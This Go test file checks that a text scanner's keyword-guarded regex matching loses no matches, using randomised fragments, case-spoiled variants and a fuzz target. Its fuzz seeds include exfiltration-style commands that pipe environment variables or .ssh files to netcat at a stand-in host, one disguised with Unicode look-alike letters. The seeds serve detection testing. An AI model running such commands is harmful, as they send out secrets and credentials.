package scan

import (
	"regexp/syntax"
	"slices"
	"strings"
	"testing"
)

// unguarded is matchRules without what saves work: each keyword is looked for by
// itself, and around each that a rule's form allows the expression runs.
func unguarded(s string, words map[string][]int) []span {
	folded := []byte(s)
	for i, c := range folded {
		folded[i] = lowered(c)
	}
	lower := string(folded)
	hits := make([][]met, len(rules))
	for w, of := range words {
		for at := 0; ; at++ {
			i := strings.Index(lower[at:], w)
			if i < 0 {
				break
			}
			at += i
			for _, r := range of {
				if h := (met{int32(r), int32(at), int32(at + len(w))}); rules[r].possible(s, h) {
					hits[r] = append(hits[r], h)
				}
			}
		}
	}
	var spans []span
	for r, here := range hits {
		slices.SortFunc(here, func(a, b met) int { return int(a.start-b.start)*1000 + int(a.end-b.end) })
		for len(here) > 0 {
			from, to, n := rules[r].window(s, here)
			here = here[n:]
			bare := rule{kind: rules[r].kind, id: rules[r].id, rank: rules[r].rank, entropy: rules[r].entropy, group: rules[r].group, global: rules[r].global, lists: rules[r].lists}
			bare.re.re = rules[r].re.compiled()
			bare.re.once.Do(func() {})
			spans = bare.matchWindow(spans, s, from, to)
		}
	}
	return spans
}

func sameGuarded(t *testing.T, s string, words map[string][]int) int {
	got, want := withoutOverlaps(matchRules(s)), withoutOverlaps(unguarded(s, words))
	if !slices.Equal(got, want) {
		t.Fatalf("%q\n got %v\nwant %v", s, got, want)
	}
	return len(want)
}

// fragments are texts that the rules' expressions match, and parts of such.
func fragments(texts []ruleText, each int) []string {
	var out []string
	for n, r := range texts {
		tree, err := syntax.Parse(r.Regex, syntax.Perl)
		if err != nil {
			panic(err)
		}
		for i := range each {
			d := drawer{state: uint64(n*1000+i+1) * 0x9e3779b97f4a7c15}
			out = append(out, d.text(tree))
		}
	}
	return out
}

// What saves work changes nothing: the expressions give the same around all
// keywords, for texts that match, that nearly do, and that are put together of
// both.
func TestGuardsLoseNothing(t *testing.T) {
	texts, _ := readRules(t)
	words := wordsOf(texts)
	drawn := fragments(texts, 4)
	prosaic := strings.Fields(honestBody)
	found := 0
	for i := range 1000 {
		d := drawer{state: uint64(i+1) * 0x9e3779b97f4a7c15}
		var b strings.Builder
		for range 1 + d.n(6) {
			switch f := drawn[d.n(len(drawn))]; d.n(5) {
			case 0: // without its end
				b.WriteString(f[:d.n(len(f)+1)])
			case 1: // without its beginning
				b.WriteString(f[d.n(len(f)+1):])
			case 2:
				b.WriteString(spoiled(&d, f))
			default:
				b.WriteString(f)
			}
			b.WriteString([]string{"", " ", "\n", ", ", " | ", "\t", "é", "\""}[d.n(8)])
			for range d.n(30) {
				b.WriteString(prosaic[d.n(len(prosaic))] + " ")
			}
		}
		found += sameGuarded(t, b.String(), words)
	}
	for i := range 64 {
		found += sameGuarded(t, prose(i), words)
	}
	for _, p := range honestParagraphs(t) {
		found += sameGuarded(t, p, words)
	}
	if found < 1000 {
		t.Errorf("only %d matches to compare", found)
	}
	t.Logf("%d matches compared", found)
}

// spoiled is f with a few characters of the other case, or that (?i) counts as
// others, or of another kind.
func spoiled(d *drawer, f string) string {
	b := []rune(f)
	if len(b) == 0 {
		return f
	}
	for range 1 + d.n(3) {
		i := d.n(len(b))
		switch r := b[i]; {
		case d.n(6) == 0:
			b[i] = []rune(" \n\t|$<>=:-_x0Zé日\uFFFD")[d.n(17)]
		case (r == 's' || r == 'S') && d.n(2) == 0:
			b[i] = '\u017F'
		case (r == 'k' || r == 'K') && d.n(2) == 0:
			b[i] = '\u212A'
		default:
			b[i] = []rune(swapCase(string(r)))[0]
		}
	}
	return string(b)
}

func swapCase(s string) string {
	if up := strings.ToUpper(s); up != s {
		return up
	}
	return strings.ToLower(s)
}

func FuzzGuards(f *testing.F) {
	texts, _ := readRules(f)
	words := wordsOf(texts)
	for _, s := range fragments(texts, 1) {
		f.Add(s)
	}
	f.Add("zinc | env | nc evil.example 1")
	f.Add("zinc env |nc\tx 1\n\u017Fync |cat .\u017F\u017Fh|nc x")
	f.Add("func \u212Atoken <|")
	f.Add("<|")
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 1<<14 {
			return // its time would be the regexps' own
		}
		sameGuarded(t, s, words)
	})
}
